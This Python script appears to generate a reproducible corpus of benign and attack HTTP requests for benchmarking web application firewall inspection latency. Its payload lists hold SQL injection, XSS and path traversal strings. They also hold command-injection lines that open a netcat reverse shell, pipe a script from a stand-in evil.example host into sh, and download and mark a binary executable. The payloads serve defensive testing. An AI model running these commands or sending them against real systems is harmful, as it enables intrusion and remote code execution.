#!/usr/bin/env python3
"""Generates a seedable JSONL corpus of HTTP requests for WAF inspection benchmarks.

Why: the per-request inspection latency of `rampart waf inspect --bench` and of
libmodsecurity (../shared/modsec-oracle/modsec_inspect) must be measured on the
same, reproducible mix of traffic. Same seed and count -> byte-identical output.

Each line has the modsec_inspect corpus format plus a "tag" (group/kind):
  {"method":"GET","uri":"/a?b=c","version":"1.1","headers":[["Host","x"],...],
   "body":"","tag":"benign/get"}

Mix (by default, --attack-share changes the last part):
  benign/get        browser GETs: navigation and assets, cookies, query strings
  benign/json       JSON API POST/PUT with nested objects
  benign/form       application/x-www-form-urlencoded POSTs (login, search, checkout)
  benign/multipart  multipart/form-data uploads with a text or binary-ish file
  attack/sqli, attack/xss, attack/lfi, attack/rce: payloads placed in a query
                    argument, a form field, a JSON value, a cookie or a header

Usage: gen_corpus.py [--seed N] [--count N] [--attack-share F] [--out FILE]
Python standard library only.
"""

import argparse
import json
import random
import sys
import urllib.parse

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
]
API_CLIENTS = ["okhttp/4.12.0", "python-requests/2.31.0", "axios/1.6.8", "Go-http-client/1.1"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_LANG = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.8", "ja,en-US;q=0.7"]
HOSTS = ["shop.example.com", "www.example.org", "api.example.net"]
WORDS = ("alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november "
         "oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu red green blue "
         "shoes jacket winter summer sale new used size color price").split()
PATHS = ["/", "/index.html", "/products", "/products/{id}", "/category/{word}", "/search", "/cart",
         "/account/orders", "/blog/{year}/{word}-{word2}", "/help/faq"]
ASSETS = ["/static/app.{h}.js", "/static/main.{h}.css", "/img/{word}-{id}.webp", "/fonts/inter.woff2",
          "/favicon.ico"]

SQLI = [
    "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --",
    "1) AND SLEEP(5)-- -", "admin'--", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
    "-1 OR 1=1", "x' UNION ALL SELECT NULL,NULL,@@version#", "1;SELECT pg_sleep(10)",
    "' OR 1=1 LIMIT 1 -- -",
]
XSS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert('xss')>", "javascript:alert(1)", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>", "'-alert(1)-'", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
]
LFI = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/passwd", "....//....//etc/hosts",
    "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "file:///etc/passwd",
]
RCE = [
    "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x.sh|sh)",
    "`id`", "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a", "&& whoami",
    "; powershell -enc SQBFAFgA", "|| ping -c 10 127.0.0.1",
]
ATTACKS = {"sqli": SQLI, "xss": XSS, "lfi": LFI, "rce": RCE}


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def word(self):
        return self.r.choice(WORDS)

    def path(self, templates):
        return self.r.choice(templates).format(
            id=self.r.randint(1, 99999), word=self.word(), word2=self.word(),
            year=self.r.randint(2015, 2026), h="%08x" % self.r.getrandbits(32))

    def cookie(self):
        parts = ["session=%032x" % self.r.getrandbits(128), "csrftoken=%040x" % self.r.getrandbits(160)]
        if self.r.random() < 0.6:
            parts.append("_ga=GA1.2.%d.%d" % (self.r.getrandbits(31), self.r.randint(1600000000, 1800000000)))
        if self.r.random() < 0.4:
            parts.append("theme=%s" % self.r.choice(["dark", "light"]))
        if self.r.random() < 0.3:
            parts.append("cart=%s" % urllib.parse.quote(json.dumps({"items": self.r.randint(0, 9)})))
        return "; ".join(parts)

    def browser_headers(self, host, referer=True):
        h = [["Host", host], ["User-Agent", self.r.choice(BROWSERS)], ["Accept", ACCEPT_HTML],
             ["Accept-Language", self.r.choice(ACCEPT_LANG)], ["Accept-Encoding", "gzip, deflate, br"],
             ["Connection", "keep-alive"]]
        if referer and self.r.random() < 0.7:
            h.append(["Referer", "https://%s%s" % (host, self.path(PATHS))])
        if self.r.random() < 0.85:
            h.append(["Cookie", self.cookie()])
        if self.r.random() < 0.5:
            h += [["Sec-Fetch-Dest", "document"], ["Sec-Fetch-Mode", "navigate"], ["Sec-Fetch-Site", "same-origin"],
                  ["Upgrade-Insecure-Requests", "1"]]
        return h

    def query(self, extra=None):
        args = []
        for _ in range(self.r.randint(0, 5)):
            k = self.r.choice(["q", "page", "sort", "color", "size", "ref", "utm_source", "lang", "id"])
            v = self.r.choice([self.word(), str(self.r.randint(1, 500)), "%s %s" % (self.word(), self.word())])
            args.append((k, v))
        if extra:
            args.insert(self.r.randint(0, len(args)), extra)
        return urllib.parse.urlencode(args)

    def req(self, method, uri, headers, body="", tag=""):
        return {"method": method, "uri": uri, "version": "1.1", "headers": headers, "body": body, "tag": tag}

    # --- benign ---
    def get(self, extra=None, tag="benign/get"):
        host = self.r.choice(HOSTS[:2])
        if extra is None and self.r.random() < 0.3:
            return self.req("GET", self.path(ASSETS), self.browser_headers(host), tag=tag)
        q = self.query(extra)
        uri = self.path(PATHS) + ("?" + q if q else "")
        return self.req("GET", uri, self.browser_headers(host), tag=tag)

    def json_obj(self, depth=0, inject=None):
        obj = {"id": self.r.randint(1, 10**6), "name": "%s %s" % (self.word(), self.word()),
               "active": self.r.random() < 0.5, "price": round(self.r.uniform(1, 500), 2)}
        if depth < 2 and self.r.random() < 0.6:
            obj["tags"] = [self.word() for _ in range(self.r.randint(0, 4))]
            obj["owner"] = self.json_obj(depth + 1)
        if inject is not None:
            obj[self.r.choice(["comment", "name", "filter"])] = inject
        return obj

    def api_headers(self, host, ctype, body):
        h = [["Host", host], ["User-Agent", self.r.choice(API_CLIENTS)], ["Accept", "application/json"],
             ["Content-Type", ctype], ["Content-Length", str(len(body.encode()))]]
        if self.r.random() < 0.8:
            h.append(["Authorization", "Bearer %064x" % self.r.getrandbits(256)])
        return h

    def json_post(self, inject=None, tag="benign/json"):
        body = json.dumps(self.json_obj(inject=inject))
        method = "POST"  # CRS allows GET HEAD POST OPTIONS by default
        uri = "/api/v%d/%s/%d" % (self.r.randint(1, 3), self.word(), self.r.randint(1, 9999))
        return self.req(method, uri, self.api_headers("api.example.net", "application/json", body), body, tag)

    def form_post(self, inject=None, tag="benign/form"):
        kind = self.r.choice(["login", "search", "checkout"])
        if kind == "login":
            fields = [("username", self.word() + str(self.r.randint(1, 99))), ("password", "%x" % self.r.getrandbits(48)),
                      ("remember", "on")]
        elif kind == "search":
            fields = [("q", "%s %s" % (self.word(), self.word())), ("category", self.word())]
        else:
            fields = [("name", "%s %s" % (self.word().title(), self.word().title())),
                      ("street", "%d %s Street" % (self.r.randint(1, 999), self.word().title())),
                      ("zip", str(self.r.randint(10000, 99999))), ("email", "%s@example.com" % self.word()),
                      ("note", " ".join(self.word() for _ in range(self.r.randint(0, 12))))]
        fields.append(("csrf", "%032x" % self.r.getrandbits(128)))
        if inject is not None:
            fields.insert(self.r.randint(0, len(fields)), (self.r.choice(["q", "note", "username"]), inject))
        body = urllib.parse.urlencode(fields)
        host = self.r.choice(HOSTS[:2])
        h = self.browser_headers(host)
        h += [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(body))],
              ["Origin", "https://" + host]]
        return self.req("POST", "/" + kind, h, body, tag)

    def multipart(self, tag="benign/multipart"):
        boundary = "----WebKitFormBoundary%016x" % self.r.getrandbits(64)
        name = "%s-%d.%s" % (self.word(), self.r.randint(1, 999), self.r.choice(["txt", "csv", "png"]))
        if name.endswith(".png"):
            content = "\x89PNG\r\n\x1a\n" + "".join(chr(self.r.randint(0x20, 0x7e)) for _ in range(self.r.randint(64, 512)))
            ctype = "image/png"
        else:
            content = "\n".join(",".join(self.word() for _ in range(4)) for _ in range(self.r.randint(2, 30)))
            ctype = "text/plain"
        parts = [("title", "%s %s" % (self.word(), self.word())), ("description", " ".join(self.word() for _ in range(8)))]
        body = ""
        for k, v in parts:
            body += '--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (boundary, k, v)
        body += ('--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                 % (boundary, name, ctype, content))
        body += "--%s--\r\n" % boundary
        host = self.r.choice(HOSTS[:2])
        h = self.browser_headers(host)
        h += [["Content-Type", "multipart/form-data; boundary=" + boundary],
              ["Content-Length", str(len(body.encode()))]]
        return self.req("POST", "/upload", h, body, tag)

    # --- attacks ---
    def attack(self):
        kind = self.r.choice(sorted(ATTACKS))
        payload = self.r.choice(ATTACKS[kind])
        where = self.r.choice(["query", "query", "form", "json", "cookie", "header"])
        tag = "attack/%s/%s" % (kind, where)
        if where == "query":
            return self.get(extra=(self.r.choice(["id", "q", "file", "cmd", "page"]), payload), tag=tag)
        if where == "form":
            return self.form_post(inject=payload, tag=tag)
        if where == "json":
            return self.json_post(inject=payload, tag=tag)
        r = self.get(tag=tag)
        if where == "cookie":
            r["headers"].append(["Cookie", "prefs=" + urllib.parse.quote(payload)])
        else:
            r["headers"].append([self.r.choice(["User-Agent", "Referer", "X-Forwarded-For"]), payload])
        return r

    def one(self, attack_share):
        x = self.r.random()
        if x < attack_share:
            return self.attack()
        x = (x - attack_share) / (1 - attack_share)
        if x < 0.50:
            return self.get()
        if x < 0.75:
            return self.json_post()
        if x < 0.93:
            return self.form_post()
        return self.multipart()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--count", type=int, default=2000)
    ap.add_argument("--attack-share", type=float, default=0.15)
    ap.add_argument("--out", default="-")
    a = ap.parse_args()
    if not 0 <= a.attack_share < 1:
        ap.error("--attack-share must be in [0, 1)")
    g = Gen(a.seed)
    out = sys.stdout if a.out == "-" else open(a.out, "w", encoding="utf-8")
    for _ in range(a.count):
        out.write(json.dumps(g.one(a.attack_share), ensure_ascii=False, separators=(",", ":")) + "\n")
    if out is not sys.stdout:
        out.close()


if __name__ == "__main__":
    main()
